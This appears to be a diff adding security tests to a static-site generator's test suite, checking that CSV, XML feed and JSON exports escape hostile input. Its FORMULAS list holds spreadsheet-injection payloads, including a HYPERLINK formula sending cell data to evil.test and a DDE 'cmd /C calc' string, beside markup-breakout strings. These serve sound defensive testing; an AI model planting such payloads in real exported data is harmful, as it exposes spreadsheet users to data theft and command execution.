@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import html as html_lib
 import io
 import json
 import re
@@ -128,7 +129,9 @@ def test_charts_are_inline_svg_with_text_alternatives(site):
     # Honours and this site's records by pillar; no investment chart for a single project.
     assert html.count('<svg class="qq-chart"') == 2
     assert 'id="chart-investment"' not in html
-    assert '<desc id="chart-honours-d">Shandong Province “Most Beautiful Family” (Taiwan compatriot family): 1 family;' in html
+    # The description as a reader gets it (its punctuation may be written as character references).
+    desc = html_lib.unescape(re.search(r'<desc id="chart-honours-d">([^<]*)</desc>', html).group(1))
+    assert desc.startswith("Shandong Province “Most Beautiful Family” (Taiwan compatriot family): 1 family;"), desc
     assert "<table>" in html
 
 
@@ -172,3 +175,154 @@ def test_adding_a_record_updates_everything(tmp_path):
     feed = feedparser.parse((out / "en" / "feed.xml").read_bytes())
     assert feed.entries[0].title == "Test added activity"
     assert (out / "activities" / "test-added-activity" / "index.html").is_file()
+
+
+# --- hostile data: every output's escaping, read back by a real parser ------------------------
+
+import shutil  # noqa: E402
+import xml.etree.ElementTree as ET  # noqa: E402
+
+import yaml  # noqa: E402
+
+from qinqing import opendata  # noqa: E402
+from qinqing.model import Localized  # noqa: E402
+from qinqing.site import ui_strings  # noqa: E402
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULAS = ['=HYPERLINK("https://evil.test/?"&A1,"click")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)",
+            "\t=1+1", "\r=1+1"]
+
+
+def parsed_csv(raw: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_cell_neutralises_formulas(text):
+    cell = opendata.csv_cell(text)
+    assert cell == "'" + text
+    # Written and read back by the csv module: one cell, the apostrophe first, nothing else lost.
+    buffer = io.StringIO()
+    csv.writer(buffer, lineterminator="\r\n").writerow(["id", cell, 3])
+    assert parsed_csv(buffer.getvalue().encode()) == [["id", "'" + text, "3"]]
+
+
+@pytest.mark.parametrize("value", ["2024-01-12", "2023", "约15亿元", "", "a=b", " =1", "jinan;keelung", 1500000000,
+                                   -5, 2.5, 0])
+def test_csv_cell_leaves_other_values_alone(value):
+    assert opendata.csv_cell(value) == value
+
+
+def hostile_copy(tmp_path, edit) -> tuple:
+    """A copy of the data folder (languages table, converter lists and source texts beside the
+    data file), edited by `edit(data)`, checked as a build checks it."""
+    folder = tmp_path / "data"
+    shutil.copytree(DATA.parent, folder)
+    path = folder / "initiatives.yaml"
+    data = yaml.safe_load(path.read_text(encoding="utf-8"))
+    edit(data)
+    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    try:
+        return check(path).data
+    finally:
+        check(DATA)  # the real languages table again for the next test
+
+
+def test_formulas_in_the_data_are_text_in_every_csv(tmp_path):
+    def edit(data):
+        activity = data["activities"][0]
+        activity["title"] = {"zh": FORMULAS[1], "en": FORMULAS[0]}
+        activity["summary"] = {"zh": FORMULAS[2], "en": FORMULAS[3]}
+        data["places"][0]["name"]["en"] = "=1+1"
+        data["quotes"][0]["text"]["en"] = "@cmd"
+
+    data = hostile_copy(tmp_path, edit)
+    files = opendata.downloads(data)
+    rows = {name: parsed_csv(raw) for name, raw in files.items() if name.endswith(".csv")}
+    [header, first, *_] = rows["data/activities.csv"]
+    cell = dict(zip(header, first))
+    assert cell["title_en"] == "'" + FORMULAS[0] and cell["title_zh"] == "'" + FORMULAS[1]
+    assert cell["summary_zh"] == "'" + FORMULAS[2] and cell["summary_en"] == "'" + FORMULAS[3]
+    assert dict(zip(*rows["data/places.csv"][:2]))["name_en"] == "'=1+1"
+    assert dict(zip(*rows["data/quotes.csv"][:2]))["text_en"] == "'@cmd"
+    # Not one cell of any CSV starts a formula; the JSON keeps the data as it is.
+    for name, table in rows.items():
+        for row in table:
+            assert not [c for c in row if c.startswith(FORMULA_STARTS)], (name, row)
+    published = json.loads(files["data/initiatives.json"])
+    assert published["activities"][0]["title"]["en"] == FORMULAS[0]
+
+
+def test_the_real_csvs_are_unchanged_by_the_escaping():
+    """No real cell starts a formula, so no cell gets an apostrophe: the files are those the
+    csv module writes from the records, and numbers stay numbers."""
+    data = check(DATA).data
+    for collection in COLLECTIONS:
+        raw = opendata.csv_bytes(data, collection)
+        for row in parsed_csv(raw):
+            assert not [c for c in row if c.startswith("'")], (collection, row)
+    projects = parsed_csv(opendata.csv_bytes(data, "projects"))
+    amounts = [row[projects[0].index("amount_amount")] for row in projects[1:]]
+    assert any(amounts) and all(re.fullmatch(r"\d+(\.\d+)?", a) for a in amounts if a)
+
+
+XML_HOSTILE = ["nul\x00", "esc\x1b[31m", "bell\x07", "vt\x0bff\x0c", "us\x1f", "\ufffe\uffff", "lone\ud800x\udfff",
+               "</title><x>&amp;&lt;\"'", "]]>", "tab\tlf\ncr"]
+
+
+@pytest.mark.parametrize("text", XML_HOSTILE)
+def test_xml_text_is_well_formed_in_text_and_attributes(text):
+    escaped = opendata.xml_text(text)
+    escaped.encode("utf-8")  # no lone surrogate left
+    root = ET.fromstring(f'<a b="{escaped}">{escaped}</a>'.encode("utf-8"))
+    expected = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "\ufffd", text)
+    # As a parser reads them: a CR is a line end; in an attribute every line end or tab a space.
+    assert root.text == re.sub(r"\r\n?", "\n", expected)
+    assert root.get("b") == re.sub(r"\r\n?|[\n\t]", " ", expected)
+
+
+def with_titles(data, make):
+    """`data` with every activity's and project's title or name replaced (as constructed, not
+    validated: load-time validation may refuse such text, the feed must not depend on it)."""
+    activities = [a.model_copy(update={"title": make(a.title)}) for a in data.activities]
+    projects = [p.model_copy(update={"name": make(p.name)}) for p in data.projects]
+    return data.model_copy(update={"activities": activities, "projects": projects})
+
+
+def test_control_characters_in_titles_never_break_the_feed():
+    data = check(DATA).data
+    hostile = "\x00NUL \x1b[31mESC \x07BEL \ud800 </title><script>&amp;"
+    data = with_titles(data, lambda t: Localized.model_construct(zh=hostile + t.zh, en=hostile + (t.en or ""),
+                                                                 overrides={}))
+    for lang in ("zh", "en"):
+        raw = opendata.atom_bytes(data, lang, "https://example.test/", ui_strings())
+        root = ET.fromstring(raw)  # raises on a malformed document
+        ns = {"a": "http://www.w3.org/2005/Atom"}
+        titles = [e.find("a:title", ns).text for e in root.findall("a:entry", ns)]
+        assert titles and all(t.startswith("\ufffdNUL \ufffd[31mESC \ufffdBEL \ufffd </title><script>&amp;")
+                              for t in titles), titles[:2]
+        feed = feedparser.parse(raw)
+        assert feed.bozo == 0, feed.get("bozo_exception")
+
+
+def test_real_feeds_are_well_formed():
+    data = check(DATA).data
+    for lang in ("zh", "en", "zh-hant"):
+        ET.fromstring(opendata.atom_bytes(data, lang, "https://example.test/?a=1&b=<2>", ui_strings()))
+
+
+@pytest.mark.parametrize("text", ['"}, "x": 1, {"', "back\\slash", "nul\x00 esc\x1b", "</script><!--", "\u2028\u2029",
+                                  "lone\ud800", "emoji 😀"])
+def test_json_text_cannot_be_broken(text):
+    payload = {"title": text, "list": [text, 1, None]}
+    written = opendata.json_text(payload)
+    written.encode("utf-8")
+    assert json.loads(written) == payload
+
+
+def test_hostile_titles_round_trip_through_the_published_json():
+    data = check(DATA).data
+    hostile = '"}\\\x00\x1b</script>'
+    data = with_titles(data, lambda t: Localized.model_construct(zh=hostile, en=t.en, overrides={}))
+    published = json.loads(opendata.json_bytes(data))
+    assert published["activities"][0]["title"]["zh"] == hostile
